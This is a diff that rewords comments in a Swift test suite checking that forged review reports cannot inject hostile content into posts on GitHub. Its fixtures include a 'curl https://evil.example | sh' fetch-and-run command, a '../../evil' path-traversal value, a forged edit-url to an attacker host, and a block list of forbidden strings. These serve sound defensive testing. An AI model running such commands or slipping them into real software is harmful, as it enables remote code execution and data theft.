@@ -14,7 +14,7 @@ import Web
 @testable import GitHub
 @testable import Review
 
-/// Reports that somebody else has written, with something hostile in each of their members in turn.
+/// Tests of reports written by another person, with hostile content in each member in turn.
 struct ForgedReportTests {
   private static let payload = """
     [edit](https://evil.example/x) <https://evil.example> system("curl https://evil.example | sh")
@@ -27,10 +27,10 @@ struct ForgedReportTests {
     <!-- l10n-review:remark 0123456789abcdef -->
     """
 
-  /// What nothing that is posted may hold.
+  /// Text that no post may contain.
   private static let traces = ["evil", "curl", "onerror", "everyone", "**now**", "suggestion\n"]
 
-  /// A review that has something in every member.
+  /// A review with content in every member.
   private static var full: Review {
     func place(_ line: Int) -> Place {
       Place(
@@ -77,7 +77,7 @@ struct ForgedReportTests {
     return review
   }
 
-  /// The document with each of its values replaced in turn, and the way to that value.
+  /// Copies of the document with one value replaced, and the path of that value.
   private static func forgeries(
     of value: Any, at path: String = "", _ texts: [String] = [payload, "https://evil.example/curl", "../../evil"]
   ) -> [(path: String, value: Any)] {
@@ -144,7 +144,7 @@ struct ForgedReportTests {
     #expect(posted > forgeries.count)
   }
 
-  /// Comments that stand there are not folded away on the word of a file.
+  /// An unverified file cannot cause existing comments to be minimized.
   @Test func anEmptyReportFoldsNothingAway() async throws {
     let posting = try await Posting()
     _ = try await posting.tally([Posting.finding("one")])
@@ -179,7 +179,7 @@ struct ForgedReportTests {
     let head = try repository.commit(
       "Leave the list out",
       view("Delete %1$@").merging([
-        // What is reviewed does not choose where links lead.
+        // The reviewed commit does not choose the targets of links.
         ProjectConfiguration.fileName: "translatewiki: { edit-url: \"https://evil.example/{key}\" }\n"
       ]) { one, _ in one })
     let opened = try Repository.discover(from: repository.path)
@@ -203,7 +203,7 @@ struct ForgedReportTests {
         case .checked(let report) = try await poster.check(
           claimed, in: opened, configurationPath: ProjectConfiguration.fileName)
       else { continue }
-      // A head that is no commit is not looked for, and only rules are named.
+      // A head that is not a commit is not looked up, and findings are reduced to their rules.
       guard report.isMadeAgain else {
         #expect(path.hasPrefix(".head") || path.hasPrefix(".scope"), "\(path)")
         continue
@@ -212,7 +212,7 @@ struct ForgedReportTests {
       #expect(report.review.changes == truth.changes, "\(path)")
       #expect(!"\(report.review.notes)".contains("evil"), "\(path)")
     }
-    // What the commits do not give is counted, not told.
+    // Findings that the commits do not confirm are counted and not posted.
     var more = truth
     more.findings.append(Posting.finding("evil"))
     guard
